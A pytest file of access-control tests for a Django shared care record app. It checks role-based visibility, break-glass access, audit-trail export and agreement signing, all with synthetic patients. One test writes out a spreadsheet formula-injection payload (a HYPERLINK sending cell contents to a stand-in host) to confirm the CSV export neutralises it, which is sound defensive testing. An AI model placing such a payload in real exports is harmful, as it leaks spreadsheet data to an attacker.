"""The sharing pages through Django's test client: what each role sees, and what it does not."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.utils import timezone

from icp.audit.models import AuditEvent
from icp.care import actions as care_actions
from icp.records.warehouse import Warehouse
from icp.sharing.models import BreakGlass, DataSharingAgreement, ReviewOutcome
from icp.sharing.vocabulary import AgreementStatus, ChoiceKind, ChoiceValue
from tests.care.referrals.conftest import accepted_referral
from tests.sharing.conftest import World

ALICE_URL = "/sharing/patients/pt-alice-0001/"
ALICE_SECRETS = (
    "Zephyrine",
    "3201234567",
    "Chronic obstructive lung disease (alice)",
    "Metformin 500mg tablets (alice)",
)


def leaked(page: str) -> set[str]:
    """Which of Alice's details appear in a page, ignoring case (and numbers in any grouping)."""
    page = re.sub(r"(?<=\d) (?=\d)", "", page).lower()
    return {secret for secret in ALICE_SECRETS if secret.lower() in page}


def as_user(client: Client, world: World, name: str) -> Client:
    client.force_login(world.users[name])
    return client


def test_registered_gp_sees_every_section_read_from_the_warehouse(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    page = as_user(client, shared_world, "gp").get(ALICE_URL).content.decode()
    assert leaked(page) == set(ALICE_SECRETS)
    assert "HbA1c (alice)" in page and "COPD exacerbation (alice)" in page
    assert "Bob" not in page and "(bob)" not in page
    reads = AuditEvent.objects.filter(action="record.read", patient_ref="pt-alice-0001", actor_username="gp")
    assert reads.count() == 8 and set(reads.values_list("outcome", flat=True)) == {"allowed"}


def test_pharmacist_without_relationship_sees_reasons_and_nothing_else(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    response = as_user(client, shared_world, "pharmacist").get(ALICE_URL)
    assert response.status_code == 403  # refused, and the page says why
    page = response.content.decode()
    assert not leaked(page)
    assert "no legitimate relationship" in page
    assert "Break glass" in page  # a clinician is offered the override


def test_voluntary_worker_with_a_referral_sees_coordination_sections_only(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    w = shared_world
    accepted_referral(w, "alice", "voluntary")
    page = as_user(client, w, "voluntary").get(ALICE_URL + "?purpose=care_coordination").content.decode()
    assert "zephyrine" in page.lower()  # demographics are shared for care coordination
    assert "Chronic obstructive lung disease" not in page and "Metformin" not in page
    assert "may not see conditions" in page
    assert "Break glass" not in page  # not a clinical role


def test_unknown_patient_is_a_404_and_is_audited(client: Client, shared_world: World) -> None:
    response = as_user(client, shared_world, "gp").get("/sharing/patients/pt-nobody/")
    assert response.status_code == 404
    assert AuditEvent.objects.filter(patient_ref="pt-nobody", outcome="denied").exists()


def test_unauthenticated_request_is_sent_to_log_in(client: Client, shared_world: World) -> None:
    for url in (
        ALICE_URL,
        "/sharing/patients/?name=Zeph",
        "/sharing/audit/?format=csv",
        "/sharing/agreements/",
    ):
        response = client.get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"]
        assert b"Zephyrine" not in response.content


def test_break_glass_opens_the_record_and_lands_on_the_ig_review_page(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    w = shared_world
    pharmacist = as_user(client, w, "pharmacist")
    response = pharmacist.post(
        ALICE_URL + "break-glass/", {"reason": "Collapsed in the pharmacy, unresponsive"}
    )
    assert response.status_code == 302
    page = pharmacist.get(response["Location"]).content.decode()
    assert "Metformin 500mg tablets (alice)" in page and "Break glass in use" in page
    assert "may not see encounters, social care, safeguarding-sensitive" in page  # the role limit stands
    assert AuditEvent.objects.filter(
        action="record.read", outcome="break-glass", actor_username="pharmacist"
    ).exists()
    review = as_user(client, w, "iglead").get("/sharing/break-glass/").content.decode()
    assert "Collapsed in the pharmacy" in review and "pharmacist" in review
    glass = BreakGlass.objects.get()
    client.post("/sharing/break-glass/", {"glass": glass.pk, "outcome": "appropriate", "note": ""})
    glass.refresh_from_db()
    assert glass.review_outcome == ReviewOutcome.APPROPRIATE
    # Reviewed, it still leads to who has looked at the record (and from there its subject-access export).
    reviewed = client.get("/sharing/break-glass/").content.decode()
    assert 'href="/sharing/patients/pt-alice-0001/access-log/"' in reviewed


def test_break_glass_needs_a_reason_and_a_clinical_role(client: Client, shared_world: World) -> None:
    w = shared_world
    assert (
        as_user(client, w, "pharmacist").post(ALICE_URL + "break-glass/", {"reason": "because"}).status_code
        == 400
    )
    assert (
        as_user(client, w, "voluntary")
        .post(ALICE_URL + "break-glass/", {"reason": "I would like to see it please"})
        .status_code
        == 403
    )
    assert not BreakGlass.objects.exists()


def test_only_an_ig_lead_reviews_break_glass(client: Client, shared_world: World) -> None:
    response = as_user(client, shared_world, "gp").get("/sharing/break-glass/")
    assert response.status_code == 403


def test_search_finds_only_people_the_user_is_related_to_and_is_audited(
    client: Client, shared_world: World
) -> None:
    w = shared_world
    gp = as_user(client, w, "gp")
    page = gp.get("/sharing/patients/", {"name": "zephyr"}).content.decode()
    assert "ZEPHYRINE" in page and "/sharing/patients/pt-alice-0001/" in page
    # Bob is registered elsewhere: the GP cannot find him by name, date of birth or number.
    for query in ({"name": "Quillfeather"}, {"birth_date": "1950-07-09"}, {"national_id": "320 987 6543"}):
        assert "QUILLFEATHER" not in gp.get("/sharing/patients/", query).content.decode()
    search = AuditEvent.objects.filter(action="patient.search", actor_username="gp").order_by("id")
    assert search.count() == 4
    assert search[0].detail["patient_ids"] == ["pt-alice-0001"] and search[0].detail["fields"] == ["name"]
    assert "zephyr" not in str(search[0].detail).lower()  # the terms typed are not kept


def test_pharmacist_search_finds_nobody_until_in_the_care_team(client: Client, shared_world: World) -> None:
    w = shared_world
    pharmacist = as_user(client, w, "pharmacist")
    assert (
        "ZEPHYRINE"
        not in pharmacist.get("/sharing/patients/", {"national_id": "3201234567"}).content.decode()
    )
    care_actions.add_care_team_member(
        patient=w.patients["alice"], organisation=w.orgs["pharmacy"], role="pharmacist", by=w.users["gp"]
    )
    assert "ZEPHYRINE" in pharmacist.get("/sharing/patients/", {"national_id": "3201234567"}).content.decode()


def test_ambulance_finds_one_person_by_exact_number_in_an_emergency(
    client: Client, shared_world: World
) -> None:
    ambulance = as_user(client, shared_world, "ambulance")
    assert "ZEPHYRINE" in ambulance.get("/sharing/patients/", {"national_id": "3201234567"}).content.decode()
    assert "ZEPHYRINE" not in ambulance.get("/sharing/patients/", {"name": "Zephyrine"}).content.decode()
    event = AuditEvent.objects.filter(action="patient.search").order_by("id").first()
    assert event is not None and event.purpose == "emergency"


def test_roles_without_care_relationships_cannot_search(client: Client, shared_world: World) -> None:
    page = (
        as_user(client, shared_world, "iglead")
        .get("/sharing/patients/", {"name": "Zephyrine"})
        .content.decode()
    )
    assert "ZEPHYRINE" not in page and "cannot search" in page
    assert AuditEvent.objects.filter(action="patient.search", outcome="denied").exists()


def test_another_icps_user_finds_and_sees_nothing(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    other = as_user(client, shared_world, "other_gp")
    assert "ZEPHYRINE" not in other.get("/sharing/patients/", {"national_id": "3201234567"}).content.decode()
    page = other.get(ALICE_URL).content.decode()
    assert not leaked(page)
    assert "not in the ICP your account works for" in page


def test_access_log_shows_who_looked_to_the_practice_and_refuses_others(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    w = shared_world
    as_user(client, w, "pharmacist").get(ALICE_URL)
    log = as_user(client, w, "gp").get(ALICE_URL + "access-log/").content.decode()
    assert "Test Pharmacy (synthetic)" in log and "Refused" in log
    assert as_user(client, w, "pharmacist").get(ALICE_URL + "access-log/").status_code == 403


def test_choices_are_recorded_by_the_practice_and_change_what_others_see(
    client: Client, shared_world: World
) -> None:
    w = shared_world
    care_actions.add_care_team_member(
        patient=w.patients["alice"], organisation=w.orgs["pharmacy"], by=w.users["gp"]
    )
    gp = as_user(client, w, "gp")
    response = gp.post(
        ALICE_URL + "choices/",
        {
            "kind": ChoiceKind.DIRECT_CARE_CONSENT,
            "value": ChoiceValue.WITHDRAWN,
            "note": "asked at reception",
        },
    )
    assert response.status_code == 302
    assert "Consent to share for direct care" in gp.get(ALICE_URL + "choices/").content.decode()
    page = as_user(client, w, "pharmacist").get(ALICE_URL).content.decode()
    assert "withdrawn consent" in page and not leaked(page)
    assert as_user(client, w, "pharmacist").get(ALICE_URL + "choices/").status_code == 403


def test_ig_lead_filters_and_exports_the_audit_trail(client: Client, shared_world: World) -> None:
    w = shared_world
    as_user(client, w, "pharmacist").get(ALICE_URL)
    ig = as_user(client, w, "iglead")
    page = ig.get("/sharing/audit/", {"actor": "pharmacist", "outcome": "denied"}).content.decode()
    assert "pt-alice-0001" in page and "no legitimate relationship" in page
    # Each event in words (what happened, the role, the purpose), its code kept small for filtering.
    assert "A page of a person&#x27;s shared care record was shown." in page
    assert "<code>record.read</code>" in page
    assert "Pharmacist" in page and "Direct care" in page
    export = ig.get("/sharing/audit/", {"actor": "pharmacist", "format": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))  # type: ignore[attr-defined]
    assert rows and {r["actor_username"] for r in rows} == {"pharmacist"}
    assert {r["patient_ref"] for r in rows} == {"pt-alice-0001"}
    assert AuditEvent.objects.filter(action="audit.export", actor_username="iglead").exists()


def test_a_filtered_csv_too_long_to_wait_for_points_to_the_export_job(
    client: Client, shared_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from icp.sharing.views import audit

    w = shared_world
    for _ in range(3):
        as_user(client, w, "pharmacist").get(ALICE_URL)
    monkeypatch.setattr(audit, "INLINE_LIMIT", 2)
    ig = as_user(client, w, "iglead")
    page = ig.get("/sharing/audit/", {"actor": "pharmacist", "format": "csv"}, follow=True)
    assert page["Content-Type"].startswith("text/html")
    assert (
        "More than 2 events match" in page.content.decode()
        and "start an audit trail export" in page.content.decode()
    )
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_audit_trail_and_export_are_refused_to_everyone_else(client: Client, shared_world: World) -> None:
    w = shared_world
    as_user(client, w, "gp").get(ALICE_URL)
    for name in ("gp", "manager", "pharmacist", "other_gp"):
        for query in ({}, {"format": "csv"}):
            response = as_user(client, w, name).get("/sharing/audit/", query)
            assert response.status_code == 403
            assert b"pt-alice-0001" not in response.content


def test_another_icps_ig_lead_sees_none_of_this_icps_trail(client: Client, shared_world: World) -> None:
    w = shared_world
    as_user(client, w, "gp").get(ALICE_URL)
    client.force_login(w.make_agreement.__globals__["User"].objects.get(username="other_iglead"))
    page = client.get("/sharing/audit/").content.decode()
    assert "pt-alice-0001" not in page


def test_register_lists_agreements_and_the_gaps(client: Client, shared_world: World) -> None:
    w = shared_world
    # The practice refers to the council-like voluntary org (covered) and to a pharmacy (covered),
    # but practice B and the voluntary org share a person with no agreement naming both.
    accepted_referral(w, "bob", "voluntary", by="gp_b")
    page = as_user(client, w, "gp").get("/sharing/agreements/").content.decode()
    assert "DSA-NI-NOR-CA-0001" in page and "In force" in page
    assert "Test Volunteers (synthetic)" in page and "1 gap" in page


def test_an_ig_lead_drafts_from_a_template_and_signs_in_two_steps(client: Client, world: World) -> None:
    ig = as_user(client, world, "iglead")
    choices = ig.get("/sharing/agreements/new/").content.decode()
    # Each template by the agreement it makes for this ICP, in words, not by its code.
    assert f">Emergency response in {world.icp.name}</label>" in choices and ">direct-care<" not in choices
    form = ig.get("/sharing/agreements/new/", {"template": "direct-care"}).content.decode()
    assert "Direct care and care coordination" in form
    response = ig.post(
        "/sharing/agreements/new/?template=direct-care",
        {
            "title": "Direct care (synthetic)",
            "parties": [world.orgs["practice_a"].pk, world.orgs["pharmacy"].pk],
            "purposes": ["direct_care"],
            "categories": ["demographics", "medications"],
            "legal_basis": "art6_1e_art9_2h",
            "start_date": str(timezone.localdate()),
            "template": "direct-care",
        },
    )
    assert response.status_code == 302
    agreement = DataSharingAgreement.objects.get()
    assert agreement.status == AgreementStatus.DRAFT and agreement.template == "direct-care"
    ig.post(response["Location"], {"verb": "sign"})
    agreement.refresh_from_db()
    assert agreement.status == AgreementStatus.SIGNED and agreement.signed_by == world.users["iglead"]


def test_only_governors_draft_or_sign(client: Client, world: World) -> None:
    agreement = world.make_agreement(["practice_a", "trust"], ["direct_care"], sign=False)
    gp = as_user(client, world, "gp")
    assert gp.get("/sharing/agreements/new/").status_code == 403
    assert gp.post(f"/sharing/agreements/{agreement.pk}/", {"verb": "sign"}).status_code == 403
    agreement.refresh_from_db()
    assert agreement.status == AgreementStatus.DRAFT


def test_nonsense_purposes_and_ids_are_refused_cleanly(client: Client, shared_world: World) -> None:
    gp = as_user(client, shared_world, "gp")
    page = gp.get(ALICE_URL, {"purpose": "x" * 300}).content.decode()
    assert "Unknown purpose" in page and not leaked(page)
    assert gp.get("/sharing/patients/" + "y" * 300 + "/").status_code == 404


def test_risk_scores_show_with_the_clinical_record_and_not_without(
    client: Client, shared_world: World
) -> None:
    from datetime import date

    from icp.patients.models import RiskResult, RiskRun
    from icp.patients.risk_detail import RiskDetail

    w = shared_world
    RiskResult.objects.create(
        patient=w.patients["alice"],
        icp=w.icp,
        practice=w.orgs["practice_a"],
        run=RiskRun.objects.create(
            run_id="r1", icp=w.icp, index_date=date(2026, 11, 1), model_version="test", people=1
        ),
        age=85,
        efi_category="moderate",
        hfrs_category="intermediate",
        detail=RiskDetail(efi_score=0.31, efi_deficits=11, hfrs_score=7.5, charlson_score=4),
        model_risk=0.42,
        risk_rank=3,
        tier="very_high",
        synthetic=True,
    )
    page = as_user(client, w, "gp").get(ALICE_URL).content.decode()
    assert "Electronic Frailty Index" in page and "0.31 (moderate" in page and "Very high" in page
    assert "As at 1 November 2026" in page  # the run's index date, read through the row's run
    page = as_user(client, w, "pharmacist").get(ALICE_URL).content.decode()
    assert "Observations, Care plans, Risk scores." in page and "0.31" not in page
    assert "Electronic Frailty Index" not in page


def test_the_audit_export_neutralises_spreadsheet_formulas_typed_into_a_reason(
    client: Client, shared_world: World
) -> None:
    from icp.audit.log import record

    w = shared_world
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    record(action="break_glass.start", actor=w.users["gp"], patient_ref="pt-alice-0001", reason=formula)
    export = as_user(client, w, "iglead").get("/sharing/audit/", {"actor": "gp", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))  # type: ignore[attr-defined]
    assert [r["reason"] for r in rows if r["action"] == "break_glass.start"] == ["'" + formula]


@pytest.mark.parametrize("user", ["gp", "gp_b", "analyst", "manager"])
def test_the_planning_purpose_never_opens_a_named_record(
    client: Client, shared_world: World, warehouse: Warehouse, user: str
) -> None:
    """The security review's high finding: `?purpose=planning` opened anyone's named record."""
    response = as_user(client, shared_world, user).get(f"{ALICE_URL}?purpose=planning")
    assert response.status_code == 403
    assert not leaked(response.content.decode())
    denial = AuditEvent.objects.filter(
        action="record.read", patient_ref="pt-alice-0001", actor_username=user, purpose="planning"
    )
    assert denial.exists() and set(denial.values_list("outcome", flat=True)) == {"denied"}


def test_a_number_matching_someone_without_a_relationship_offers_break_glass_and_nothing_else(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    w = shared_world
    pharmacist = as_user(client, w, "pharmacist")
    page = pharmacist.get("/sharing/patients/", {"national_id": "320 123 4567"}).content.decode()
    assert "no care relationship with them" in page
    assert "zephyrine" not in page.lower() and "(alice)" not in page  # the number typed, nothing more
    assert 'action="/sharing/patients/pt-alice-0001/break-glass/"' in page
    search = AuditEvent.objects.filter(action="patient.search", actor_username="pharmacist").latest("id")
    assert search.detail["break_glass_offered"] == "pt-alice-0001" and search.detail["patient_ids"] == []
    # A name alone, a number nobody has, or a role that cannot break glass: no offer.
    assert "break-glass" not in pharmacist.get("/sharing/patients/", {"name": "Zephyrine"}).content.decode()
    assert (
        "break-glass"
        not in pharmacist.get("/sharing/patients/", {"national_id": "1112223334"}).content.decode()
    )
    voluntary = as_user(client, w, "voluntary")
    assert (
        "break-glass"
        not in voluntary.get("/sharing/patients/", {"national_id": "3201234567"}).content.decode()
    )
    # Breaking glass from the offer goes through the same action and opens the record, audited.
    response = as_user(client, w, "pharmacist").post(
        "/sharing/patients/pt-alice-0001/break-glass/", {"reason": "Collapsed at the counter, unresponsive"}
    )
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert "Metformin 500mg tablets (alice)" in page and "Break glass in use" in page


def test_the_record_reads_in_words_with_observations_trended(
    client: Client, shared_world: World, warehouse: Warehouse
) -> None:
    page = as_user(client, shared_world, "gp").get(ALICE_URL).content.decode()
    assert "Hospital admission (emergency)" in page  # the setting in words, not "inpatient"
    assert "31.2 kg/m²" in page and "58 mmol/mol" in page  # units as written
    assert "10 January 2026" in page  # dates the NHS way
    assert "SNOMED CT 13645005" in page and "snomed 13645005" not in page
    assert "Latest" in page and "Previous" in page
    assert '<a href="/care/person/pt-alice-0001/risk/">' in page  # the shared record links to the risk page


def test_the_record_page_costs_a_bounded_number_of_queries_and_one_audit_insert(
    client: Client, shared_world: World, warehouse: Warehouse, django_assert_max_num_queries
) -> None:
    """Profiled (docs/deployment.md, Load): the page asks the app database about twenty small
    questions whatever the record holds, and appends its one event a category in one INSERT."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    gp = as_user(client, shared_world, "gp")
    gp.get(ALICE_URL)  # the session and the first request's one-off work
    with django_assert_max_num_queries(24), CaptureQueriesContext(connection) as queries:
        assert gp.get(ALICE_URL).status_code == 200
    inserts = [q for q in queries.captured_queries if q["sql"].startswith('INSERT INTO "audit_auditevent"')]
    assert len(inserts) == 1
    assert AuditEvent.objects.filter(action="record.read", patient_ref="pt-alice-0001").count() >= 8 * 2
